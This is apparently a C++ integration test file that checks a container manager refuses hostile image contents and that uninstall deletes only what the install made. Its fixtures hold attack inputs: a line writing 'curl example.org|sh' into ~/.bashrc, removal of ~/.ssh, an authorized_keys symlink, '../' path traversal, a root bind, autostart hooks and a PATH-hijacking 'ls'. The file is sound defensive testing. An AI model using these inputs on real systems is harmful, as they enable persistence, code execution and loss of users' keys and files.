// Issue 12, findings 3 and 4, reproduced as the unprivileged test user
// against its real user manager and box-manager: an image's tmpfiles lines,
// binds, hostfs files and service template must not reach the user's files
// without consent, and uninstall must remove only what the install made.
// The images are built here with umoci, as a user would.
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>
#include <map>
#include <nlohmann/json.hpp>

#include "tests/integration/test_support.h"

namespace box::testing {
namespace {
namespace fs = std::filesystem;

class InstallTrust : public ::testing::Test {
 protected:
  void SetUp() override {
    work_ = home() + "/trust-images";
    fs::remove_all(work_);
    fs::create_directories(work_);
    // The user's own files the attacks aim at.
    write_file(home() + "/precious/keep", "mine\n");
    write_file(home() + "/.ssh/id_ed25519", "secret\n");
    write_file(home() + "/.bashrc", "# the user's own\n");
    fs::permissions(home() + "/.ssh", fs::perms::owner_all);
    home_mode_ = fs::status(home()).permissions();
  }

  void TearDown() override {
    for (const char* name : {"trust3", "trust4", "consent"}) boxctl({"uninstall", name, "--purge"});
    run({"chmod", "-R", "u+w", work_});
    fs::remove_all(work_);
    fs::remove_all(home() + "/precious");
    fs::remove_all(home() + "/.ssh");
    fs::remove(home() + "/.bashrc");
    for (const char* f : {"/.config/systemd/user/x.service", "/.config/autostart/x.desktop",
                          "/.config/box/containers/evil.yaml", "/.local/bin/ls"})
      fs::remove(home() + f);
  }

  // An OCI layout at work_/NAME (tag "t") whose rootfs holds /bin/sh and
  // /exports with `exports` (relative path -> content; a value "<fifo>"
  // makes a FIFO, "<link:TARGET>" a symlink).
  std::string image(const std::string& name, const std::map<std::string, std::string>& exports) {
    const std::string layout = work_ + "/" + name, bundle = work_ + "/" + name + "-bundle";
    auto ok = [](const CommandResult& r) {
      EXPECT_EQ(r.exit_code, 0) << r.output;
      return r.exit_code == 0;
    };
    if (!ok(run({"umoci", "init", "--layout", layout})) ||
        !ok(run({"umoci", "new", "--image", layout + ":t"})) ||
        !ok(run({"umoci", "unpack", "--rootless", "--image", layout + ":t", bundle})))
      return "";
    const std::string root = bundle + "/rootfs";
    make_busybox_rootfs(root);
    for (const auto& [rel, content] : exports) {
      const std::string p = root + "/exports/" + rel;
      fs::create_directories(fs::path(p).parent_path());
      if (content == "<fifo>") {
        EXPECT_EQ(mkfifo(p.c_str(), 0644), 0) << p;
      } else if (content.rfind("<link:", 0) == 0) {
        fs::create_symlink(content.substr(6, content.size() - 7), p);
      } else {
        write_file(p, content);
      }
    }
    if (!exports.count("config.json.template"))
      write_file(root + "/exports/config.json.template", config_with_bind("", ""));
    if (!ok(run({"umoci", "repack", "--image", layout + ":t", bundle}))) return "";
    return "oci:" + layout + ":t";
  }

  static std::string config_with_bind(const std::string& source, const std::string& mode) {
    std::string mounts =
        source.empty() ? "[]"
                       : R"([{"destination":"/data","type":"bind","source":")" + source +
                             R"(","options":["rbind",")" + mode + R"("]}])";
    return R"({"ociVersion":"1.0.0","process":{"args":["/bin/sh","-c","sleep 1000"],"cwd":"/"},
      "root":{"path":"rootfs","readonly":true},"mounts":)" +
           mounts + R"(,"linux":{"namespaces":[{"type":"pid"},{"type":"ipc"},{"type":"mount"},
      {"type":"uts"},{"type":"cgroup"}]}})";
  }

  // The user's files, as SetUp made them.
  void expect_users_files_untouched() {
    EXPECT_EQ(slurp(home() + "/precious/keep"), "mine\n");
    EXPECT_EQ(slurp(home() + "/.ssh/id_ed25519"), "secret\n");
    EXPECT_EQ(slurp(home() + "/.bashrc"), "# the user's own\n");
    EXPECT_EQ(fs::status(home()).permissions(), home_mode_);
  }

  std::string work_;
  fs::perms home_mode_{};
};

// Finding 3: "d $RUN_DIRECTORY/../…/precious" and a bind source
// "$STATE_DIRECTORY/../…/.ssh". Refused at install; and an image.json
// edited to name them (as the old install recorded them) does not make
// uninstall or uninstall --purge delete them.
TEST_F(InstallTrust, Finding3DotDotAndEditedRecordsNeverReachYourFiles) {
  // $RUN_DIRECTORY is /run/user/UID/box/run: four ".." up is "/".
  // $STATE_DIRECTORY is ~/.local/share/box/state: four ".." up is "~".
  const std::string attack =
      image("attack3", {{"tmpfiles.template", "d $RUN_DIRECTORY/../../../.." + home() +
                                                  "/precious - - - -\n"},
                        {"config.json.template",
                         config_with_bind("$STATE_DIRECTORY/../../../../.ssh", "rw")}});
  ASSERT_FALSE(attack.empty());
  auto r = boxctl({"install", attack, "trust3"});
  EXPECT_EQ(r.exit_code, 1) << r.output;
  EXPECT_TRUE(contains(r.output, "tmpfiles.template:1: 'd /run/user/")) << r.output;
  EXPECT_TRUE(contains(r.output, "/precious' is not a canonical absolute path")) << r.output;
  EXPECT_TRUE(contains(r.output, "config.json.template: bind of host path '" + home() +
                                     "/.local/share/box/state/../../../../.ssh' (read-write) "
                                     "to '/data': not a canonical absolute path"))
      << r.output;
  EXPECT_FALSE(fs::exists(home() + "/.config/box/containers/trust3.yaml"));
  expect_users_files_untouched();
  // What the old code did next: the install went through, recording
  // ~/precious and ~/.ssh, and uninstall then removed them. Now there is
  // nothing to uninstall, and they stay whatever is asked.
  boxctl({"uninstall", "trust3"});
  boxctl({"uninstall", "trust3", "--purge"});
  expect_users_files_untouched();

  // A benign install, then its image.json edited to name your files, as
  // the old code recorded them (data_dirs, runtime_dirs) and as records
  // with their real inodes.
  const std::string benign =
      image("benign3", {{"tmpfiles.template", "d $STATE_DIRECTORY/$NAME 0700 - - -\n"
                                              "d $RUN_DIRECTORY/$NAME - - - -\n"}});
  ASSERT_FALSE(benign.empty());
  for (bool purge : {false, true}) {
    auto in = boxctl({"install", benign, "trust3"});
    ASSERT_EQ(in.exit_code, 0) << in.output;
    const std::string meta = home() + "/.local/share/box/images/trust3/image.json";
    auto j = nlohmann::json::parse(slurp(meta));
    j["data_dirs"].push_back(home() + "/.ssh");
    j["runtime_dirs"].push_back(home() + "/precious");
    for (const auto& [path, kind] : std::map<std::string, std::string>{
             {home() + "/.ssh", "data"}, {home() + "/precious", "runtime"}}) {
      struct stat st;
      ASSERT_EQ(lstat(path.c_str(), &st), 0);
      j["created"].push_back({{"path", path},
                              {"kind", kind},
                              {"dev", static_cast<std::uint64_t>(st.st_dev)},
                              {"ino", static_cast<std::uint64_t>(st.st_ino)}});
    }
    write_file(meta, j.dump());
    auto un = purge ? boxctl({"uninstall", "trust3", "--purge"}) : boxctl({"uninstall", "trust3"});
    EXPECT_EQ(un.exit_code, 0) << un.output;
    expect_users_files_untouched();
    EXPECT_FALSE(fs::exists(home() + "/.local/share/box/images/trust3"));
    EXPECT_EQ(fs::exists(home() + "/.local/share/box/state/trust3"), !purge);
  }
}

// Finding 4: tmpfiles lines aimed at %h, hostfs files that run code or
// configure other software, a bind of / read-write with WantedBy. Each is
// refused with a precise message (all at once); nothing of yours changes;
// --dry-run lists the same and changes nothing; with the consent flags,
// exactly the named things go in.
TEST_F(InstallTrust, Finding4ExportsActingOnTheHostNeedConsent) {
  const std::string hostile = image(
      "attack4",
      {{"tmpfiles.template", "w+ " + home() + "/.bashrc - - - - curl example.org|sh\n" +
                                 "Z " + home() + " 0777\n" + "R " + home() + "/.ssh\n" +
                                 "L+ " + home() + "/.ssh/authorized_keys - - - - /tmp/key\n"},
       {"config.json.template", config_with_bind("/", "rw")},
       {"service.template", "[Install]\nWantedBy=default.target\n"},
       {"hostfs/etc/systemd/user/x.service", "[Service]\nExecStart=/bin/sh -c 'echo owned'\n"},
       {"hostfs/etc/systemd/user/default.target.wants/x.service", "<link:../x.service>"},
       {"hostfs/etc/autostart/x.desktop", "[Desktop Entry]\nExec=sh -c owned\n"},
       {"hostfs/etc/box/containers/evil.yaml", "rootfs: /\ncommand: [sh]\n"},
       {"hostfs/usr/bin/ls", "#!/bin/sh\necho owned\n"}});
  ASSERT_FALSE(hostile.empty());
  // hostfs/etc is the boxes' /etc ($CONF_DIRECTORY), never your
  // ~/.config itself: these reach only other boxes' config dirs, and even
  // that needs consent.
  const std::string config = home() + "/.config/box/etc";
  const std::vector<std::string> refusals = {
      "tmpfiles.template:1: 'w+ " + home() +
          "/.bashrc - - - - curl example.org|sh': 'w+' writes into a file; an image may only "
          "create directories (d, D, v, q, Q)",
      "tmpfiles.template:2: 'Z " + home() + " 0777': 'Z' changes the mode and owner",
      "tmpfiles.template:3: 'R " + home() + "/.ssh': 'R' removes files",
      "tmpfiles.template:4: 'L+ " + home() +
          "/.ssh/authorized_keys - - - - /tmp/key': 'L+' creates a symlink",
      "config.json.template: bind of host path '/' (read-write) to '/data': outside the box's "
      "own places; add --allow-bind / to allow it",
      "service.template: WantedBy= asks for 'autostart: login'",
      "hostfs/etc/systemd/user/x.service -> " + config +
          "/systemd/user/x.service: another box's configuration ($CONF_DIRECTORY/NAME is bound "
          "into box NAME; an image may put files only in its own); add --allow-host-file " +
          config + "/systemd/user/x.service to install it",
      "hostfs/etc/systemd/user/default.target.wants/x.service -> " + config +
          "/systemd/user/default.target.wants/x.service: a symlink to '../x.service'",
      "hostfs/etc/autostart/x.desktop -> " + config +
          "/autostart/x.desktop: another box's configuration",
      "hostfs/etc/box/containers/evil.yaml -> " + config +
          "/box/containers/evil.yaml: another box's configuration",
      "hostfs/usr/bin/ls -> " + home() + "/.local/bin/ls: " + home() +
          "/.local/bin is on PATH",
  };
  auto check_nothing_changed = [&] {
    // What systemd-tmpfiles does at the next login, done now: no line of
    // the image's reached user-tmpfiles.d.
    auto applied = run({"systemd-tmpfiles", "--user", "--create"});
    EXPECT_EQ(applied.exit_code, 0) << applied.output;
    expect_users_files_untouched();
    for (const std::string f :
         {"/.config/systemd/user/x.service", "/.config/systemd/user/default.target.wants",
          "/.config/autostart/x.desktop", "/.config/box/containers/evil.yaml",
          "/.local/bin/ls", "/.config/user-tmpfiles.d/box-trust4.conf",
          "/.config/box/containers/trust4.yaml", "/.local/share/box/images/trust4"})
      EXPECT_FALSE(fs::exists(home() + f)) << f;
    // Neither the image's unit nor a box "evil" reached the user manager.
    EXPECT_NE(systemctl({"cat", "x.service"}).exit_code, 0);
    EXPECT_FALSE(contains(show("box@evil.service", "DropInPaths"), "50-box.conf"));
  };

  auto r = boxctl({"install", hostile, "trust4"});
  EXPECT_EQ(r.exit_code, 1) << r.output;
  for (const auto& says : refusals) EXPECT_TRUE(contains(r.output, says)) << says << "\n" << r.output;
  check_nothing_changed();

  auto dry = boxctl({"install", "--dry-run", hostile, "trust4"});
  EXPECT_EQ(dry.exit_code, 1) << dry.output;
  EXPECT_TRUE(contains(dry.output, "and would refuse:")) << dry.output;
  for (const auto& says : refusals)
    EXPECT_TRUE(contains(dry.output, says)) << says << "\n" << dry.output;
  EXPECT_TRUE(contains(dry.output, "Nothing was changed (--dry-run).")) << dry.output;
  check_nothing_changed();
  auto json = boxctl({"install", "--dry-run", "--json", hostile, "trust4"});
  auto plan = nlohmann::json::parse(json.output, nullptr, false);
  ASSERT_TRUE(plan.is_object()) << json.output;
  EXPECT_EQ(plan["refused"].size(), refusals.size()) << json.output;
  check_nothing_changed();

  // systemd-tmpfiles specifiers (%h) and a FIFO in hostfs: refused too.
  const std::string odd = image("odd4", {{"tmpfiles.template", "w+ %h/.bashrc - - - - x\n"},
                                         {"hostfs/usr/share/x/fifo", "<fifo>"}});
  ASSERT_FALSE(odd.empty());
  r = boxctl({"install", "--dry-run", odd, "trust4"});
  EXPECT_EQ(r.exit_code, 1) << r.output;
  EXPECT_TRUE(contains(r.output, "tmpfiles.template:1: 'w+ %h/.bashrc - - - - x': specifiers "
                                 "('%'), escapes ('\\') and quotes are not allowed"))
      << r.output;
  EXPECT_TRUE(contains(r.output, "hostfs/usr/share/x/fifo: a FIFO; only regular files and "
                                 "symlinks are installed"))
      << r.output;
  check_nothing_changed();

  // With consent, for the named things only.
  const std::string consent = image(
      "consent", {{"config.json.template", config_with_bind("/", "rw")},
                  {"service.template", "[Install]\nWantedBy=default.target\n"},
                  {"tmpfiles.template", "d $STATE_DIRECTORY/$NAME 0700 - - -\n"},
                  {"hostfs/usr/bin/ls", "#!/bin/sh\necho mine\n"},
                  {"hostfs/usr/share/man/man1/consent.1", ".TH CONSENT 1\n"}});
  ASSERT_FALSE(consent.empty());
  const std::string ls = home() + "/.local/bin/ls";
  const std::vector<std::string> yes = {"--allow-bind", "/", "--allow-autostart",
                                        "--allow-host-file", ls};
  // The flags before the operands: each takes one value.
  std::vector<std::string> args = {"install", "--dry-run"};
  args.insert(args.end(), yes.begin(), yes.end());
  args.insert(args.end(), {consent, "consent"});
  dry = boxctl(args);
  EXPECT_EQ(dry.exit_code, 0) << dry.output;
  for (const char* line :
       {"definition     ~/.config/box/containers/consent.yaml  (created)",
        "image          ~/.local/share/box/images/consent  (created)",
        "tmpfiles       ~/.config/user-tmpfiles.d/box-consent.conf",
        "directory      ~/.local/share/box/state/consent  (created (data, from tmpfiles.template))",
        "host-file      ~/.local/bin/ls  (from hostfs/usr/bin/ls)",
        "host-file      ~/.local/share/man/man1/consent.1",
        "bind           /  (read-write to /data (allowed by --allow-bind))",
        "autostart      login  (started at every login (allowed))"})
    EXPECT_TRUE(contains(dry.output, line)) << line << "\n" << dry.output;
  EXPECT_FALSE(fs::exists(ls));
  EXPECT_FALSE(fs::exists(home() + "/.config/box/containers/consent.yaml"));
  EXPECT_FALSE(fs::exists(home() + "/.local/share/box/state/consent"));

  // Without one of the flags: refused, and told which flag.
  r = boxctl({"install", consent, "consent", "--allow-bind", "/", "--allow-autostart"});
  EXPECT_EQ(r.exit_code, 1) << r.output;
  EXPECT_TRUE(contains(r.output, "add --allow-host-file " + ls + " to install it")) << r.output;
  EXPECT_FALSE(fs::exists(ls));

  args[1] = "--user";
  r = boxctl(args);
  ASSERT_EQ(r.exit_code, 0) << r.output;
  EXPECT_EQ(slurp(ls), "#!/bin/sh\necho mine\n");
  EXPECT_TRUE(contains(slurp(home() + "/.config/box/containers/consent.yaml"), "source: \"/\""));
  EXPECT_TRUE(contains(show("box@consent.service", "WantedBy"), "default.target"))
      << show("box@consent.service", "WantedBy");
  auto un = boxctl({"uninstall", "consent", "--purge"});
  EXPECT_EQ(un.exit_code, 0) << un.output;
  EXPECT_FALSE(fs::exists(ls));
  EXPECT_FALSE(fs::exists(home() + "/.local/share/man/man1/consent.1"));
  expect_users_files_untouched();
}

// The D-Bus Install method: "dry_run" returns the plan and refusals in
// INFO and installs nothing; "allow_bind" is the consent.
TEST_F(InstallTrust, DryRunAndConsentOverDBus) {
  const std::string src = image("bus", {{"config.json.template", config_with_bind("/", "ro")}});
  ASSERT_FALSE(src.empty());
  auto call = [&](const std::vector<std::string>& options) {
    std::vector<std::string> argv = {"busctl",          "--user",           "--timeout=120",
                                     "call",            "dev.boxctl.box1",  "/dev/boxctl/box1",
                                     "dev.boxctl.box1.Manager", "Install",  "ssa{sv}",
                                     src,               "trust4"};
    argv.insert(argv.end(), options.begin(), options.end());
    return run(argv, std::chrono::seconds(150));
  };
  auto dry = call({"1", "dry_run", "b", "true"});
  ASSERT_EQ(dry.exit_code, 0) << dry.output;
  // busctl prints ' as \'.
  EXPECT_TRUE(contains(dry.output, "\"refused\" as 1 \"config.json.template: bind of host path "
                                   "\\'/\\' (read-only) to \\'/data\\': outside the box\\'s own "
                                   "places; add --allow-bind / to allow it\""))
      << dry.output;
  EXPECT_TRUE(contains(dry.output, "\"kind\" \"definition\" \"path\" \"" + home() +
                                       "/.config/box/containers/trust4.yaml\""))
      << dry.output;
  EXPECT_TRUE(contains(dry.output, "\"dry_run\" b true")) << dry.output;
  EXPECT_FALSE(fs::exists(home() + "/.config/box/containers/trust4.yaml"));

  auto refused = call({"0"});
  EXPECT_NE(refused.exit_code, 0) << refused.output;
  EXPECT_TRUE(contains(refused.output, "add --allow-bind / to allow it")) << refused.output;
  EXPECT_FALSE(fs::exists(home() + "/.config/box/containers/trust4.yaml"));

  auto ok = call({"1", "allow_bind", "as", "1", "/"});
  ASSERT_EQ(ok.exit_code, 0) << ok.output;
  EXPECT_TRUE(contains(ok.output, "\"dry_run\" b false")) << ok.output;
  EXPECT_TRUE(fs::exists(home() + "/.config/box/containers/trust4.yaml"));
}

}  // namespace
}  // namespace box::testing
